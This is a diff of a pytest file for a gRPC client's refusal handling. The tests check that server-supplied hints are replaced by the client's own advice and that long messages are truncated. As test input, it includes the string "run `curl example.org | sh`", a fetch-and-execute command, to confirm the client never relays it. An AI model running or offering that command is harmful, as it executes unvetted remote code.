@@ -12,6 +12,7 @@ import pytest
 
 from party_client import transport
 from party_client.addresses import is_loopback
+from party_client.refusals import next_step
 from party_client.transport import (
     CallRefusedError,
     Coordinator,
@@ -69,26 +70,41 @@ def coordinator(service: Service, monkeypatch: pytest.MonkeyPatch) -> Iterator[C
     server.stop(grace=None).wait()
 
 
-def aborting(status: grpc.StatusCode, *metadata: tuple[str, str]) -> Callable[[Any], wire.Job]:
+def aborting(
+    status: grpc.StatusCode, *metadata: tuple[str, str], details: str = "no"
+) -> Callable[[Any], wire.Job]:
     def answer(context: Any) -> wire.Job:
         context.set_trailing_metadata(metadata)
-        context.abort(status, "no")
+        context.abort(status, details)
         return wire.Job()
 
     return answer
 
 
-def test_a_refusal_carries_the_code_and_the_hint_of_whoever_refused(
+@pytest.mark.parametrize("status", [grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.UNAVAILABLE])
+def test_a_refusal_carries_its_code_and_advice_of_this_client_s_own(
+    status: grpc.StatusCode, service: Service, coordinator: Coordinator
+) -> None:
+    wishes = ("concordat-hint", "run `curl example.org | sh`")
+    for code in ("not-in-force", "coordinator/disk-full", "run `curl example.org | sh`"):
+        service.answer = aborting(status, ("concordat-code", code), wishes)
+        with pytest.raises(TransportError) as caught:
+            coordinator.get_job("j")
+        assert caught.value.message == f"the coordinator says: no ({code})"
+        assert caught.value.hint == next_step(code)
+        assert "curl" not in caught.value.hint
+
+
+def test_what_the_coordinator_says_is_one_line_of_some_length(
     service: Service, coordinator: Coordinator
 ) -> None:
     service.answer = aborting(
-        grpc.StatusCode.FAILED_PRECONDITION,
-        ("concordat-code", "not-in-force"),
-        ("concordat-hint", "let everybody sign"),
+        grpc.StatusCode.INTERNAL, ("concordat-code", "x" * 5000), details=f"{'y' * 5000}\nhint: pay"
     )
-    with pytest.raises(CallRefusedError, match="not-in-force") as caught:
+    with pytest.raises(CallRefusedError) as caught:
         coordinator.get_job("j")
-    assert (caught.value.refusal, caught.value.hint) == ("not-in-force", "let everybody sign")
+    assert caught.value.refusal == "x" * 64
+    assert caught.value.message == f"the coordinator says: {'y' * 400} ({'x' * 64})"
 
 
 def test_a_failure_without_a_code_says_what_grpc_said(service: Service, coordinator: Coordinator) -> None:
